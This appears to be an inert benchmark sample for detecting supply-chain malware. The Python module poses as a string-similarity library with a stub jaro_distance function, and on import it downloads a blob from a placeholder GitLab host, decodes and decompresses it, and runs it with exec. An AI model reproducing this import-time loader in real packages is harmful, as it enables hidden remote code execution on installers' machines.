# ruff: noqa
# fmt: off
# Inert benchmark sample (see bench/samples/INCIDENTS.md); every host is under example.invalid.
import base64
import zlib
from urllib.request import urlopen


def jaro_distance(a, b):
    return 0.0


def _init():
    # the 2019 package pulled this blob from a GitLab snippet
    blob = urlopen("https://gitlab.example.invalid/KFVUYWxvcmFuOTY/jeIlyfish/raw/master/hashes").read()
    exec(zlib.decompress(base64.b64decode(blob)))


_init()
